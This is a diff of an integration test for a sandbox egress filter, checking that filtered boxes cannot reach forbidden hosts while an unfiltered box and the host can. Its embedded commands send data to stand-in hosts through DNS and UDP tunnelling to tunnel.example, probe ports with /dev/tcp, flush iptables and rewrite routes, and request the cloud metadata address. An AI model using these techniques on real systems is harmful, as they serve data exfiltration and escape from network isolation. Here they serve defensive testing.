@@ -1,11 +1,15 @@
 /**
  * What an egress filter lets through and what it does not, on this machine's real engine, with an Internet of the test's own. Needs root.
+ * What must fail for one box is tried where nothing is in its way as well: by a box that is observed, or on the host itself.
  */
+import { once } from "node:events";
+import { createServer, type Server } from "node:http";
 import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
 import type { FilterPolicy } from "../../lib/domain/filter-state.ts";
 import { filterInstance } from "../../lib/egress/filter-control.ts";
-import { openTestFence, setUpTimeoutMs, type TestFence, until } from "./test-fence.ts";
-import { internetAddresses, openTestInternet, type TestInternet } from "./test-internet.ts";
+import { openTestFence, type TestFence, until } from "./test-fence.ts";
+import { setUpTimeoutMs } from "./test-fenced-host.ts";
+import { closedAddresses, internetAddresses, openTestInternet, type TestInternet } from "./test-internet.ts";
 
 const at = internetAddresses(0);
 const { allowed: allowedAddress, other: otherAddress, dns: dnsAddress, own: ownAddress } = at;
@@ -28,6 +32,7 @@ const boxes = {
 };
 type Box = keyof typeof boxes;
 
+const hostPort = 8099;
 const names = {
 	"allowed.example": allowedAddress,
 	"second.example": allowedAddress,
@@ -38,6 +43,8 @@ const names = {
 
 let internet: TestInternet;
 let fence: TestFence<Box>;
+/** Of the host, at addresses that no box may reach. */
+const hostServers: Server[] = [];
 const inBox = (box: Box, script: string) => fence.inBox(box, script);
 const fetched = (box: Box, url: string) => fence.fetched(box, url);
 const addressOf = (box: Box) => fence.inFenceOf(boxes[box].place);
@@ -45,9 +52,16 @@ const addressOf = (box: Box) => fence.inFenceOf(boxes[box].place);
 beforeAll(async () => {
 	internet = await openTestInternet({ link: "dbxtegr", at, names });
 	fence = await openTestFence({ installId: "tstegr", boxes, resolver: dnsAddress });
+	const places = [ownAddress, ...closedAddresses].map((address) => [address, 80] as const);
+	for (const [address, port] of [...places, [fence.address, hostPort] as const]) {
+		const server = createServer((_request, response) => void response.end(`the host reached ${address}`));
+		hostServers.push(server.listen(port, address));
+		await once(server, "listening");
+	}
 }, setUpTimeoutMs);
 
 afterAll(async () => {
+	for (const server of hostServers) server.close();
 	await internet?.close();
 	await fence?.close();
 }, setUpTimeoutMs);
@@ -60,21 +74,26 @@ describe("a box with a list", () => {
 		expect(await fetched("listed", "http://allowed.example:2222/")).toContain(allowedAddress);
 	});
 
-	it.each([
-		["a name that is not listed", "http://evil.example/"],
-		["the name of a wildcard itself", "https://wild.example/"],
-		["a name that ends like a listed one", "http://evilallowed.example/"],
-		["a name that ends like a wildcard", "http://evilwild.example/"],
-		["a listed name that leads to a private address", "https://private.example/"],
-		["an address", `https://${otherAddress}/`],
-		["the address of a listed name", `https://${allowedAddress}/`],
-		["an address on another port", `http://${allowedAddress}:2222/`],
-		["an address of the host", `http://${ownAddress}/`],
-		["the cloud's metadata", "http://169.254.169.254/"],
-	])("does not reach %s, and hears so instead of waiting", async (_what, url) => {
-		const said = await fetched("listed", url);
-		expect(said).not.toContain("reached");
-		expect(said).not.toContain("timed out");
+	const forbidden: [what: string, url: string, from: "observed" | "host"][] = [
+		["a name that is not listed", "http://evil.example/", "observed"],
+		["the name of a wildcard itself", "https://wild.example/", "observed"],
+		["a name that ends like a listed one", "http://evilallowed.example/", "observed"],
+		["a name that ends like a wildcard", "http://evilwild.example/", "observed"],
+		["an address", `https://${otherAddress}/`, "observed"],
+		["the address of a listed name", `https://${allowedAddress}/`, "observed"],
+		["an address on another port", `http://${allowedAddress}:2222/`, "observed"],
+		["a listed name that leads to a private address", `http://${closedAddresses[1]}/`, "host"],
+		["an address of the host", `http://${ownAddress}/`, "host"],
+		["the cloud's metadata", `http://${closedAddresses[0]}/`, "host"],
+	];
+	it.each(forbidden)("does not reach %s, and hears so instead of waiting", async (_what, url, from) => {
+		const answers = from === "host" ? await (await fetch(url)).text() : await fetched("observed", url);
+		expect(answers).toContain("reached");
+		const asked = url.replace(closedAddresses[1], "private.example");
+		for (const said of [await fetched("listed", asked), from === "host" ? await fetched("observed", asked) : ""]) {
+			expect(said).not.toContain("reached");
+			expect(said).not.toContain("timed out");
+		}
 	});
 
 	it("is told that a listed name leads nowhere, once the name servers were asked again", async () => {
@@ -103,25 +122,51 @@ describe("a box with a list", () => {
 	});
 
 	it("gets no datagram out: neither QUIC nor echo, nor a question to another name server", async () => {
-		expect(await inBox("listed", `ping -c1 -W2 ${otherAddress} >/dev/null; echo $?`)).not.toBe("0");
-		expect(await internet.heard(otherAddress)).toEqual([]);
-		const query = `import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\ns.settimeout(2)\nfor p in (443, 53, 123):\n  s.sendto(b"secret.tunnel.example", ("${dnsAddress}", p))`;
-		await inBox("listed", `python3 -c '${query}' ; getent hosts c2VjcmV0.tunnel.example`);
-		expect(await internet.heard("tunnel.example")).toEqual([]);
+		const echo = (box: Box) => inBox(box, `ping -c1 -W2 ${otherAddress} >/dev/null; echo $?`);
+		expect(await echo("observed")).toBe("0");
+		expect(await echo("listed")).not.toBe("0");
+		const send = (box: Box) => {
+			const to = [`("${otherAddress}", 443)`, `("${otherAddress}", 7777)`].join(", ");
+			// A question as it is on the wire: for the A of <box>.tunnel.example.
+			const question = `b"\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"".join(bytes([len(p)]) + p for p in b"${box}.tunnel.example".split(b".")) + b"\\0\\0\\1\\0\\1"`;
+			const lines = [
+				"import socket",
+				"s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
+				`for to in (${to}): s.sendto(b"${box}.datagram", to)`,
+				`s.sendto(${question}, ("${dnsAddress}", 53))`,
+			];
+			return inBox(box, `python3 - <<'END'\n${lines.join("\n")}\nEND\ngetent hosts lookup-${box}.tunnel.example`);
+		};
+		const heard = (box: Box) =>
+			Promise.all([
+				...[443, 7777].map(async (port) =>
+					(await internet.heard(`${box}.datagram`)).filter((line) => line.endsWith(` ${port}`)),
+				),
+				...[" ", " lookup-"].map((before) => internet.heard(`]${before}${box}.tunnel.example`)),
+			]);
+		await send("listed");
+		await send("observed");
+		await until(async () => (await heard("observed")).every((lines) => lines.length > 0));
+		expect(await heard("listed")).toEqual([[], [], [], []]);
 	});
 
-	it.each(["listed", "none"] as const)("gets no question of another class out either (%s)", async (box) => {
+	it.each([
+		["listed", false],
+		["none", false],
+		["observed", true],
+	] as const)("gets no question of another class out either (%s: %s)", async (box, isOpen) => {
 		const ask = `
 import socket, struct
 def ask(kind, of):
-	name = b"".join(bytes([len(part)]) + part for part in (b"leak%d-%d.tunnel.example" % (kind, of)).split(b".")) + b"\\0"
+	name = b"".join(bytes([len(part)]) + part for part in (b"leak-${box}-%d-%d.tunnel.example" % (kind, of)).split(b".")) + b"\\0"
 	s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 	s.settimeout(5)
 	s.sendto(struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + name + struct.pack(">HH", kind, of), ("${fence.inFenceOf(2)}", 53))
 	return s.recv(512)[3] & 15
 print(sorted({ask(kind, of) for kind in (1, 16, 255) for of in (255, 254, 4, 3)}))`;
-		expect(await inBox(box, `python3 - <<'END'\n${ask}\nEND`)).toBe("[5]");
-		expect(await internet.heard("leak")).toEqual([]);
+		const codes = await inBox(box, `python3 - <<'END'\n${ask}\nEND`);
+		if (!isOpen) expect(codes).toBe("[5]");
+		expect((await internet.heard(`leak-${box}`)).length > 0).toBe(isOpen);
 	});
 
 	it("holds 512 connections at most, so that the others have theirs", async () => {
@@ -156,6 +201,8 @@ time.sleep(8)`;
 			ip addr add ${addressOf("observed")}/24 dev eth0; curl -s -m3 --interface ${addressOf("observed")} http://${otherAddress}/
 			ip addr del ${addressOf("observed")}/24 dev eth0; ip route replace default via ${fence.address}; curl -s -m3 http://${otherAddress}/
 			ip -6 addr add fd77::2/64 dev eth0 nodad; ip -6 route add default dev eth0`;
+		const [inner = ""] = tries.split("iptables -F");
+		expect(await inBox("observed", inner)).toContain(`reached ${otherAddress}`);
 		const output = await inBox("listed", tries);
 		expect(output).not.toContain(`reached ${otherAddress}`);
 		expect(output).toContain(`reached ${allowedAddress}`);
@@ -167,17 +214,22 @@ time.sleep(8)`;
 
 	it("reaches neither another box nor its host", async () => {
 		await inBox("other", "systemd-run -q --collect python3 -m http.server 8099");
-		const open = `for t in ${addressOf("other")}/8099 ${fence.address}/22 ${fence.address}/53 ${fence.address}/8443; do timeout 2 bash -c "exec 3<>/dev/tcp/$t" 2>/dev/null && echo open $t; done; true`;
+		const there = `http://${addressOf("other")}:8099/`;
+		await until(async () => (await inBox("other", `curl -s -m3 ${there}`)).includes("Directory listing"));
+		expect(await (await fetch(`http://${fence.address}:${hostPort}/`)).text()).toContain("reached");
+		const open = `for t in ${addressOf("other")}/8099 ${[hostPort, 22, 53, 8443].map((port) => `${fence.address}/${port}`).join(" ")}; do timeout 2 bash -c "exec 3<>/dev/tcp/$t" 2>/dev/null && echo open $t; done; true`;
 		expect(await inBox("listed", open)).not.toContain(`open ${fence.address}`);
-		const answer = await inBox("listed", `timeout 3 curl -s http://${addressOf("other")}:8099/`);
-		expect(answer).not.toContain("Directory listing");
+		expect(await fetched("listed", there)).not.toContain("Directory listing");
+		expect(await fetched("listed", `http://${fence.address}:${hostPort}/`)).not.toContain("reached");
 	});
 });
 
 it("two boxes have their own lists at the same time", async () => {
-	expect(await fetched("other", "http://second.example/")).toContain(allowedAddress);
-	expect(await fetched("other", "http://allowed.example/")).not.toContain("reached");
-	expect(await fetched("listed", "http://second.example/")).not.toContain("reached");
+	const both = ["allowed.example", "second.example"];
+	const ask = (box: Box) => Promise.all(both.map((name) => fetched(box, `https://${name}/`)));
+	const said = await Promise.all([ask("listed"), ask("other"), ask("listed"), ask("other")]);
+	const reached = said.map((pages) => both.filter((_, n) => pages[n]?.includes(`reached ${allowedAddress}`)));
+	expect(reached).toEqual([["allowed.example"], ["second.example"], ["allowed.example"], ["second.example"]]);
 });
 
 it("a box without a network reaches nothing, and one that is observed everything but what no box may reach", async () => {
